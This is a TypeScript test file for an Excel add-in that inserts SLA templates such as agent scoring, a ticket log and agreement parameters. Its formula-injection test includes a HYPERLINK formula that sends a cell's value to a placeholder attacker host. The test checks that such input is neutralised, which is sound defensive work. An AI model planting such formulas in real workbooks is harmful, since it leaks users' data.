/**
 * insertTemplate against the strict fake Excel: what lands in the workbook, in at most two syncs.
 */
import { insertTemplate, type ExcelRun } from "../../src/excel";
import { NUMBER_FORMATS } from "../../src/excel/formats";
import { getTemplate, LANGS, TEMPLATES, isTable, type Lang, type Template } from "../../src/templates";
import { columnLetters, columnNumber, type FakeWorkbook } from "./fakeWorkbook";
import { insertInto } from "./insertInto";
import { createStrictExcel, type InitialWorkbook } from "./strictExcel";

const SHEET1: InitialWorkbook = { sheets: [{ name: "Sheet1", cells: { A1: "mine", B2: 42 } }] };

/** Inserted beside a sheet of the user's (SHEET1), unless a test says otherwise. */
const insert = (
  tp: Template,
  lang: Lang,
  options?: Parameters<typeof insertTemplate>[3],
  initial: InitialWorkbook = SHEET1,
) => insertInto(tp, lang, options, initial);

const textCells = (wb: FakeWorkbook, sheet: string) => [...wb.sheet(sheet).cells].filter(([, c]) => c.kind === "text");

describe.each(TEMPLATES.flatMap((tp) => LANGS.map((lang) => [tp.id, lang, tp] as const)))(
  "%s (%s)",
  (_id, lang, tp) => {
    test("one new sheet with its tables, in at most 2 syncs; the existing sheet untouched", async () => {
      const excel = createStrictExcel(SHEET1);
      const before = excel.workbook.sheet("Sheet1").snapshot();
      const result = await insertTemplate((batch) => excel.run(batch), tp, lang, { examples: true });
      const wb = excel.workbook;
      expect(wb.syncs).toBeLessThanOrEqual(2);
      expect(result.sheetName).toBe(tp.sheetName[lang]);
      expect(wb.sheets.map((s) => s.name)).toEqual(["Sheet1", tp.sheetName[lang]]);
      expect(wb.sheet("Sheet1").snapshot()).toBe(before);

      const sheet = wb.sheet(result.sheetName);
      expect(sheet.activated).toBe(true);
      const blocks = tp.blocks.filter(isTable);
      expect(wb.tables.map((t) => [t.name, t.style])).toEqual(blocks.map((b) => [b.tableName, "TableStyleMedium2"]));
      expect(result.tableNames).toEqual(blocks.map((b) => b.tableName));
      expect(result.exampleRows).toBe(blocks.reduce((n, b) => n + b.examples.length, 0));
      // Tables side by side print a page each, at one scale; a single table fits one page wide.
      if (blocks.length > 1) {
        expect(sheet.page.zoom).toEqual({ scale: expect.any(Number) });
        expect((sheet.page.zoom as { scale: number }).scale).toBeGreaterThanOrEqual(50);
        // A page per table, and one more per column a wide table asks a page to start at.
        const inner = blocks.reduce((n, b) => n + (b.printBreaksBefore?.length ?? 0), 0);
        expect(sheet.page.columnBreaksBefore).toHaveLength(blocks.length - 1 + inner);
      } else expect(sheet.page.zoom).toEqual({ horizontalFitToPages: 1, verticalFitToPages: 0 });
      if (blocks.length) expect(sheet.frozenRows).toBeGreaterThanOrEqual(4);
      expect(sheet.columnWidths.size).toBeGreaterThan(1);
    });

    test("text cells are text-formatted, calculated columns hold formulas, names in formulas exist", async () => {
      const { wb, result, sheet } = await insert(tp, lang);
      for (const [address, c] of textCells(wb, result.sheetName))
        expect([address, c.numberFormat]).toEqual([address, "@"]);
      for (const table of tp.blocks.filter(isTable)) {
        const placed = wb.tables.find((t) => t.name === table.tableName)!;
        const [, firstCol, firstRow, , lastRow] = /^([A-Z]+)(\d+):([A-Z]+)(\d+)$/.exec(placed.address)!;
        const letterOf = (j: number) => columnLetters(columnNumber(firstCol) + j);
        const headers = table.columns.map((_, j) => sheet.cells.get(`${letterOf(j)}${firstRow}`)?.value);
        expect(headers).toEqual(table.columns.map((c) => c.header[lang]));
        table.columns.forEach((column, j) => {
          const letter = letterOf(j);
          for (let r = Number(firstRow) + 1; r <= Number(lastRow); r++) {
            const c = sheet.cells.get(`${letter}${r}`) ?? {};
            expect([`${letter}${r}`, c.numberFormat !== undefined]).toEqual([`${letter}${r}`, true]);
            if (column.formula)
              expect([`${letter}${r}`, c.kind, c.numberFormat]).toEqual([
                `${letter}${r}`,
                "formula",
                NUMBER_FORMATS[column.format],
              ]);
          }
        });
      }
      const formulas = [...sheet.cells.values()].flatMap((c) => (c.formula ? [c.formula] : []));
      for (const f of formulas)
        for (const m of f.matchAll(/\bSLA_[A-Za-z0-9]+\b/g)) expect([f, wb.nameTaken(m[0])]).toEqual([f, true]);
    });
  },
);

describe("agent performance (zh): what is written", () => {
  // No forms: the table's header on row 4 (A–H, its 8 columns), its 4 example rows on 5–8; the cells
  // beside it two columns to the right, labels in J and values in K, from the header row down.
  let ctx: Awaited<ReturnType<typeof insert>>;
  beforeAll(async () => {
    ctx = await insert(getTemplate("agents"), "zh");
  });

  test("values with their formats", () => {
    const { cell } = ctx;
    expect(cell("A1")).toMatchObject({ kind: "text", value: "客户服务绩效考核表（10分制）", bold: true, size: 16 });
    expect(["A4", "F4", "G4"].map((a) => cell(a).value)).toEqual(["考核维度", "权重", "得分"]);
    expect(["F5", "F6", "F7", "F8"].map((a) => [cell(a).value, cell(a).numberFormat])).toEqual([
      [0.15, "0%"],
      [0.25, "0%"],
      [0.2, "0%"],
      [0.4, "0%"],
    ]);
    expect(cell("C5")).toMatchObject({ kind: "text", value: "≤30秒", numberFormat: "@" });
    // Actuals in the standard's unit: 40 seconds and 1 step as numbers, the two rates as percentages.
    expect(["D5", "D6", "D7", "D8"].map((a) => [cell(a).value, cell(a).numberFormat])).toEqual([
      [40, "General"],
      [0.92, "0%"],
      [1, "General"],
      [0.88, "0%"],
    ]);
    expect(cell("E5")).toMatchObject({ kind: "text", value: "≤30秒得10分，每超10秒扣1分，扣完为止；满分10分" });
    expect([cell("J4").value, cell("K4")]).toEqual([
      "客服人员",
      expect.objectContaining({ kind: "text", value: "李*" }),
    ]);
  });

  test("formulas: structured references, the engine's functions, out of 10", () => {
    const { cell } = ctx;
    expect(cell("G5").formula).toBe(
      '=IF([@[实际值]]="","",SLA.SCORE([@[实际值]],[@[标准值]],[@[评分标准（10分制）]],10))',
    );
    expect(cell("G8").formula).toBe(cell("G5").formula);
    expect(cell("J6").value).toBe("加权得分（10分制）");
    expect(cell("K6")).toMatchObject({
      formula: '=IF(COUNT(SLA_AgentScores[[得分]])=0,"",SLA.WEIGHTED(SLA_AgentScores[[得分]],SLA_AgentScores[[权重]]))',
      numberFormat: "0.00",
    });
    expect(cell("K7")).toMatchObject({
      formula: '=IF(COUNT(SLA_AgentScores[[权重]])=0,"",SUM(SLA_AgentScores[[权重]]))',
      numberFormat: "0%",
    });
  });

  test("a sheet that uses no agreement parameter: no name created, nothing to tell", () => {
    const { wb, result } = ctx;
    expect(wb.names).toEqual([]);
    expect(result.namesCreated).toEqual([]);
    expect(result.notices).toEqual([]);
  });

  test("validation, prompts, conditional formats, wrap, widths, frozen header, print setup", () => {
    const { sheet, cell } = ctx;
    expect(sheet.validations).toContainEqual({
      address: "F5:F8",
      rule: { decimal: { operator: "Between", formula1: 0, formula2: 1 } },
    });
    expect(sheet.prompts).toContainEqual({
      address: "D4",
      prompt: { showPrompt: true, title: "实际值", message: "比率填百分数；时长、次数填标准所用单位的数值" },
    });
    // The total weight turns red once weights are entered and do not add up to 100%.
    expect(sheet.conditionalFormats).toEqual([
      {
        address: "K7",
        type: "Custom",
        formula: "=IF(ISNUMBER($K$7),ROUND($K$7,6)<>1,FALSE)",
        fill: "#F8D7DA",
        font: "#842029",
      },
    ]);
    expect([...sheet.hiddenColumns]).toEqual([]);
    // Long texts wrap: dimension, indicator and data source (marked), the rules (40 characters wide).
    expect(["A5", "B5", "C5", "D5", "E5", "F5", "H5"].map((a) => cell(a).wrap === true)).toEqual([
      true,
      true,
      false,
      false,
      true,
      false,
      true,
    ]);
    // 40 characters of 7 px and 5 px of padding: 285 px = 213.75 pt.
    expect(sheet.columnWidths.get("E")).toBe(213.75);
    expect(sheet.frozenRows).toBe(4);
    expect(sheet.page).toEqual({
      orientation: "Landscape",
      zoom: { horizontalFitToPages: 1, verticalFitToPages: 0 },
      titleRows: "$4:$4",
    });
  });
});

test('the English agent sheet: the seed\'s rules arrive as text, even "-1 per 10 s over; full 10"', async () => {
  const { cell } = await insert(getTemplate("agents"), "en");
  expect(cell("E5")).toMatchObject({ kind: "text", value: "-1 per 10 s over; full 10", numberFormat: "@" });
  expect(cell("C5")).toMatchObject({ kind: "text", value: "<=30 s" });
  expect(cell("G5").formula).toBe(
    '=IF([@[Actual]]="","",SLA.SCORE([@[Actual]],[@[Standard]],[@[Rule (out of 10)]],10))',
  );
});

describe("ticket log (zh)", () => {
  test("dropdowns, date-times as serials, phone numbers as text, due time from the priority's limit", async () => {
    const { sheet, cell, wb, result } = await insert(getTemplate("tickets"), "zh");
    // Seven example tickets in rows 6–12 (the tables' headings on row 4, headers on row 5).
    expect(sheet.validations).toContainEqual({
      address: "G6:G12",
      rule: { list: { inCellDropDown: true, source: "P1,P2,P3" } },
    });
    expect(sheet.validations).toContainEqual({
      address: "F6:F12",
      rule: { list: { inCellDropDown: true, source: "焦急,不满,平和" } },
    });
    expect(sheet.validations).toContainEqual({
      address: "D6:D12",
      rule: { list: { inCellDropDown: true, source: "产品咨询,售后投诉,售后服务,建议,其他" } },
    });
    expect(cell("I6")).toMatchObject({ kind: "number", value: 45413.4375, numberFormat: "yyyy-mm-dd hh:mm" });
    expect(cell("C6")).toMatchObject({ kind: "text", value: "5678" });
    // The resolution's due time: the priority's limit in the agreement's hours, the holidays table's days off
    // and working days, the ticket's pauses left out.
    expect(cell("Q6").formula).toBe(
      '=IF(OR([@[记录时间]]="",[@[优先级]]=""),"",IFNA(SLA.DUE([@[记录时间]],IF([@[优先级]]="P1",SLA_LimitP1,IF([@[优先级]]="P2",SLA_LimitP2,IF([@[优先级]]="P3",SLA_LimitP3,""))),SLA_Calendar,IF(SLA_Days[[日期]]="","",IF((((SLA_Days[[类型]]="调休上班")+(SLA_Days[[类型]]="Working day"))>0),"",SLA_Days[[日期]])),IF(SLA_Days[[日期]]="","",IF((((SLA_Days[[类型]]="调休上班")+(SLA_Days[[类型]]="Working day"))>0),SLA_Days[[日期]],"")),IF([@[工单编号]]="","",IF(SLA_Pauses[[工单编号]]=[@[工单编号]],IF(SLA_Pauses[[挂起开始]:[恢复计时]]="","",SLA_Pauses[[挂起开始]:[恢复计时]]),""))),""))',
    );
    // The resolution status red when late, amber when at risk; the response status red when late.
    expect(sheet.conditionalFormats.filter((c) => c.address === "T6:T12").map((c) => c.fill)).toEqual([
      "#F8D7DA",
      "#FFF3CD",
    ]);
    expect(sheet.conditionalFormats.filter((c) => c.address === "P6:P12").map((c) => c.fill)).toEqual(["#F8D7DA"]);
    // Printed: the request on one page, the clocks on the next, the pauses and the holidays on their own,
    // at one scale that is still readable.
    expect(sheet.page.columnBreaksBefore).toEqual(["L", "Z", "AE"]);
    expect((sheet.page.zoom as { scale: number }).scale).toBeGreaterThanOrEqual(50);
    expect(wb.name("SLA_LimitP1")?.formula).toBe('="2小时"');
    expect(wb.name("SLA_Calendar")?.formula).toBe('="周一至周五 9:00-18:00"');
    expect(wb.name("SLA_Holidays")?.formula).toBe('=""'); // no holidays unless the agreement says CN
    expect([...result.namesCreatedWithDefaults].sort()).toEqual([
      "SLA_Calendar",
      "SLA_Holidays",
      "SLA_LimitP1",
      "SLA_LimitP2",
      "SLA_LimitP3",
      "SLA_ResponseP1",
      "SLA_ResponseP2",
      "SLA_ResponseP3",
      "SLA_WarningLevel",
    ]);
    // Each name carries its parameter's label, and the result says they were created.
    expect(wb.name("SLA_LimitP1")?.comment).toBe("P1（紧急）处理时限");
    expect(wb.name("SLA_Calendar")?.comment).toBe("服务时间");
    expect(result.notices.map((n) => n.id)).toEqual(["namesCreatedWithDefaults"]);
    expect(result.notices[0].text.zh).toContain(
      "SLA_Calendar、SLA_Holidays、SLA_ResponseP1、SLA_ResponseP2、SLA_ResponseP3、SLA_LimitP1",
    );
  });
});

describe("agreement info: the parameters' home", () => {
  test("names point at the form's cells, which hold the defaults", async () => {
    const { wb, cell, result } = await insert(getTemplate("agreement"), "zh");
    expect(wb.name("SLA_GradeScale")?.formula).toBe("='协议信息'!$B$18");
    expect(cell("A18").value).toBe("等级划分");
    expect(cell("B18")).toMatchObject({ kind: "text", value: "优秀≥90;合格≥80;不合格" });
    expect(wb.name("SLA_PenaltyRate")?.formula).toBe("='协议信息'!$B$21");
    expect(cell("B21")).toMatchObject({ kind: "number", value: 0.05, numberFormat: "0%" });
    expect(cell("B9")).toMatchObject({ kind: "number", value: 45285, numberFormat: "yyyy-mm-dd" }); // 2023-12-25: 2024-01-01 is 45292
    expect(result.namesCreated).toHaveLength(8);
    expect(result.notices.map((n) => n.id)).toEqual(["namesLinked"]);
  });

  test("constants left by an earlier sheet move into their cells, values kept: text and numbers", async () => {
    const initial: InitialWorkbook = {
      sheets: [{ name: "Sheet1" }],
      names: [
        { name: "SLA_GradeScale", formula: '="A>=90; B>=60; C"', visible: true },
        { name: "SLA_PenaltyRate", formula: "=0.08", visible: true },
        { name: "SLA_PenaltyMonths", formula: "=2", visible: true },
      ],
    };
    const { wb, cell, result } = await insert(getTemplate("agreement"), "zh", { examples: true }, initial);
    expect(wb.name("SLA_GradeScale")?.formula).toBe("='协议信息'!$B$18");
    expect(cell("B18")).toMatchObject({ kind: "text", value: "A>=90; B>=60; C" });
    expect(wb.name("SLA_PenaltyRate")?.formula).toBe("='协议信息'!$B$21");
    // The user's 8%, not the default 5%; and 2 months, not the default 3.
    expect(cell("B21")).toMatchObject({ kind: "number", value: 0.08, numberFormat: "0%" });
    expect(cell("B20")).toMatchObject({ kind: "number", value: 2 });
    expect(result.namesMoved).toEqual(["SLA_GradeScale", "SLA_PenaltyMonths", "SLA_PenaltyRate"].sort());
  });

  test("a name the user defined by a formula is theirs: kept, and the form shows its value", async () => {
    const initial: InitialWorkbook = {
      sheets: [{ name: "Contract", cells: { B5: 100000 } }],
      // Excel reports it as "Double", exactly like the constant =1200000: only its formula tells.
      names: [{ name: "SLA_MonthlyFee", formula: "=Contract!$B$5*12", value: 1200000, visible: true }],
    };
    const { wb, cell, result } = await insert(getTemplate("agreement"), "zh", { examples: true }, initial);
    expect(wb.name("SLA_MonthlyFee")).toEqual(initial.names![0]);
    expect(wb.writes.filter((w) => /SLA_MonthlyFee/.test(w))).toEqual([]);
    expect(cell("B22")).toMatchObject({ kind: "formula", formula: "=SLA_MonthlyFee" });
    expect(result.namesKept).toContain("SLA_MonthlyFee");
  });

  test("after the agreement sheet is deleted, inserting it again repairs its #REF! names", async () => {
    const excel = createStrictExcel(SHEET1);
    const run: ExcelRun = (batch) => excel.run(batch);
    await insertTemplate(run, getTemplate("agreement"), "zh", { examples: true });
    excel.workbook.deleteSheet("协议信息");
    expect(excel.workbook.name("SLA_GradeScale")?.formula).toBe("=#REF!$B$18");
    const result = await insertTemplate(run, getTemplate("agreement"), "zh", { examples: true });
    expect(result.sheetName).toBe("协议信息");
    expect(excel.workbook.names.filter((n) => n.formula.includes("#REF!"))).toEqual([]);
    expect(excel.workbook.name("SLA_GradeScale")?.formula).toBe("='协议信息'!$B$18");
    expect(excel.workbook.sheet("协议信息").cells.get("B18")?.value).toBe("优秀≥90;合格≥80;不合格");
    expect(result.namesRepaired).toHaveLength(8);
    expect(result.notices.map((n) => n.id)).toEqual(["namesRepaired"]);
  });

  test("a name already pointing at cells elsewhere is left alone; the form shows its value", async () => {
    const initial: InitialWorkbook = {
      sheets: [{ name: "Old", cells: { B3: "优秀≥95;不合格" } }],
      names: [{ name: "SLA_GradeScale", formula: "=Old!$B$3", visible: true }],
    };
    const { wb, cell, result } = await insert(getTemplate("agreement"), "zh", { examples: true }, initial);
    expect(wb.name("SLA_GradeScale")?.formula).toBe("=Old!$B$3");
    expect(cell("B18")).toMatchObject({ kind: "formula", formula: "=SLA_GradeScale" });
    expect(result.namesKept).toEqual(["SLA_GradeScale"]);
  });
});

test("name collision: an existing sheet and table named like the template's stay untouched", async () => {
  const initial: InitialWorkbook = {
    sheets: [{ name: "绩效考核", cells: { A1: "我的数据", A4: "考核维度", B4: "备注", B5: 0.5, C9: "=SUM(B5:B8)" } }],
    tables: [{ name: "SLA_AgentScores", sheet: "绩效考核", address: "A4:B8" }],
  };
  // A copy made before: the fake keeps the objects it was given, so comparing with them proves nothing.
  const tableBefore = JSON.parse(JSON.stringify(initial.tables![0])) as object;
  const excel = createStrictExcel(initial);
  const before = excel.workbook.sheet("绩效考核").snapshot();
  const result = await insertTemplate((b) => excel.run(b), getTemplate("agents"), "zh", { examples: true });
  expect(excel.workbook.syncs).toBe(2);
  expect(result.sheetName).toBe("绩效考核 (2)");
  expect(result.tableNames).toEqual(["SLA_AgentScores2"]);
  expect(excel.workbook.sheet("绩效考核").snapshot()).toBe(before);
  expect(excel.workbook.tables[0]).toEqual({ ...tableBefore, columns: ["考核维度", "备注"] });
  // The weighted total (K6) reads the new table, not the user's.
  expect(excel.workbook.sheet("绩效考核 (2)").cells.get("K6")?.formula).toContain("SLA_AgentScores2[[得分]]");
  expect(result.notices.map((n) => n.id)).toEqual(["sheetRenamed", "tableRenamed"]);
  expect(result.notices[0].text).toEqual({
    zh: "已有名为“绩效考核”的工作表，新工作表命名为“绩效考核 (2)”。",
    en: 'A sheet named "绩效考核" already exists; the new sheet is "绩效考核 (2)".',
  });
});

test("a defined name already called like a template's table: the table takes the next free name", async () => {
  // Tables and defined names share one namespace: a table named SLA_AgentScores would fail at the last sync.
  const initial: InitialWorkbook = {
    sheets: [{ name: "Sheet1", cells: { A1: 1 } }],
    names: [{ name: "sla_agentscores", formula: "=Sheet1!$A$1", visible: true }],
  };
  const { result, wb } = await insert(getTemplate("agents"), "zh", { examples: true }, initial);
  expect(result.tableNames).toEqual(["SLA_AgentScores2"]);
  expect(wb.tables.map((t) => t.name)).toEqual(["SLA_AgentScores2"]);
  expect(wb.name("SLA_AgentScores")?.formula).toBe("=Sheet1!$A$1");
  expect(result.notices.map((n) => n.id)).toContain("tableRenamed");
});

test("formula injection: text typed by the user beginning with = + - @ lands as text", async () => {
  const typed = {
    agreementNo: '=HYPERLINK("http://evil.example/?"&A1,"x")',
    client: "+86 139 0000 0000",
    provider: "-5 per 1% below",
    goal: "@SUM(A1:A9)",
    period: "0138",
    calendar: "=7*24",
    monthlyFee: "=1/0",
  };
  const { cell, wb } = await insert(getTemplate("agreement"), "en", { examples: false, values: typed });
  const expected: Record<string, string> = {
    B5: typed.agreementNo,
    B6: typed.client,
    B7: typed.provider,
    B15: typed.goal,
    B8: typed.period,
    B25: typed.calendar, // after the fee clause (B23) and its reading (B24)
    B22: typed.monthlyFee,
  };
  for (const [address, text] of Object.entries(expected))
    expect([address, cell(address)]).toEqual([
      address,
      expect.objectContaining({ kind: "text", value: text, numberFormat: "@" }),
    ]);
  // The only formula is the template's own: the fee clause's reading (SLA.RULE), nothing typed.
  const formulas = [...wb.sheet("Agreement").cells].filter(([, c]) => c.kind === "formula");
  expect(formulas.map(([address, c]) => [address, c.formula])).toEqual([
    ["B24", '=IF(SLA_FeeClause="","",SLA.RULE(SLA_PenaltyThreshold,SLA_FeeClause))'],
  ]);
});

describe("agreement parameters when a sheet is inserted alone", () => {
  test("missing names are created with the seeds' defaults", async () => {
    const { wb, result } = await insert(getTemplate("tickets"), "en");
    expect(Object.fromEntries(wb.names.map((n) => [n.name, n.formula]))).toEqual({
      SLA_Calendar: '="Mon-Fri 09:00-18:00"',
      SLA_Holidays: '=""',
      SLA_ResponseP1: '="15 minutes"',
      SLA_ResponseP2: '="15 minutes"',
      SLA_ResponseP3: '="15 minutes"',
      SLA_LimitP1: '="2 hours"',
      SLA_LimitP2: '="24 hours"',
      SLA_LimitP3: '="72 hours"',
      SLA_WarningLevel: "=0.8",
    });
    expect(result.namesCreatedWithDefaults).toHaveLength(9);
    expect(result.notices.find((n) => n.id === "namesCreatedWithDefaults")?.text.en).toContain(
      "created with their defaults: SLA_Calendar, SLA_Holidays, SLA_ResponseP1, SLA_ResponseP2, SLA_ResponseP3, SLA_LimitP1, SLA_LimitP2, SLA_LimitP3, SLA_WarningLevel.",
    );
  });

  test("names already there are left alone", async () => {
    const names = [
      { name: "sla_calendar", formula: '="周一至周日 8:00-20:00"', visible: true },
      { name: "SLA_LimitP1", formula: "=Terms!$B$2", visible: true },
    ];
    const namesBefore = JSON.parse(JSON.stringify(names)) as typeof names;
    const { wb, result } = await insert(
      getTemplate("tickets"),
      "zh",
      { examples: true },
      { sheets: [{ name: "Terms" }], names },
    );
    expect(wb.name("SLA_Calendar")).toEqual(namesBefore[0]);
    expect(wb.name("SLA_LimitP1")).toEqual(namesBefore[1]);
    expect(result.namesKept).toEqual(["SLA_Calendar", "SLA_LimitP1"]);
    expect(result.namesCreatedWithDefaults).toEqual([
      "SLA_Holidays",
      "SLA_ResponseP1",
      "SLA_ResponseP2",
      "SLA_ResponseP3",
      "SLA_LimitP2",
      "SLA_LimitP3",
      "SLA_WarningLevel",
    ]);
    // Excel saw no write to either name: only the missing ones were added.
    expect(wb.writes.filter((w) => /name/i.test(w))).toEqual([
      "names.add SLA_Holidays",
      "names.add SLA_ResponseP1",
      "names.add SLA_ResponseP2",
      "names.add SLA_ResponseP3",
      "names.add SLA_LimitP2",
      "names.add SLA_LimitP3",
      "names.add SLA_WarningLevel",
    ]);
  });
});

test("without examples: empty rows with the formulas in place", async () => {
  const { cell, result } = await insert(getTemplate("agents"), "zh", { examples: false });
  expect(result.rowsWritten).toBe(4); // the template's 4 blank rows
  expect(result.exampleRows).toBe(0);
  expect(cell("A5").value).toBeUndefined();
  expect(cell("A5").numberFormat).toBe("@");
  expect(cell("G5").formula).toContain("SLA.SCORE");
});

test("a value typed for a cell the template does not have is refused before anything is written", async () => {
  const excel = createStrictExcel(SHEET1);
  await expect(
    insertTemplate((b) => excel.run(b), getTemplate("agents"), "zh", { examples: true, values: { nope: "x" } }),
  ).rejects.toThrow(/nope/);
  expect(excel.workbook.sheets).toHaveLength(1);
});
